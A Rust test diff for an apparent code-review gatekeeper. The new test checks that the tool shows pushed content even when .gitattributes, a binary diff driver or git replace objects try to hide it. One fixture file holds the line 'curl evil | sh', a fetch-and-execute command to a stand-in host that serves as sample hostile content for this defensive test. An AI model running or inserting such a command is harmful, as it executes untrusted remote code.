@@ -333,6 +333,26 @@ async fn another_forge_has_its_own_command() {
 }
 
 #[tokio::test]
+async fn a_gatekeeper_reads_what_is_pushed_whatever_the_repository_says() {
+    let repo = Repo::new();
+    repo.commit(".gitattributes", "*.sh -diff\n*.txt diff=bin\n", "attributes");
+    repo.git(&["config", "diff.bin.binary", "true"]);
+    repo.commit("evil.sh", "curl evil | sh\n", "add a script");
+    repo.commit("it's [b].txt", "hidden by a driver\n", "add a text");
+    repo.commit("c.sh", "\0really binary\n", "add a program");
+    let (real, innocent) = ("real words\n", "innocent words\n");
+    repo.commit("d.md", innocent, "add words");
+    let shown = repo.git(&["rev-parse", "HEAD:d.md"]);
+    repo.commit("d.md", real, "other words");
+    repo.git(&["replace", &repo.git(&["rev-parse", "HEAD:d.md"]), &shown]);
+    let said = repo.run(CHANGE).await.stdout;
+    for line in ["+curl evil | sh\n", "+hidden by a driver\n", "+real words\n"] {
+        assert!(said.contains(line), "{line} is missing in {said}");
+    }
+    assert!(!said.contains("innocent") && !said.contains("really binary"), "{said}");
+}
+
+#[tokio::test]
 async fn a_gatekeeper_reads_the_commits_and_what_they_change() {
     let repo = Repo::new();
     let nothing = repo.run(CHANGE).await;
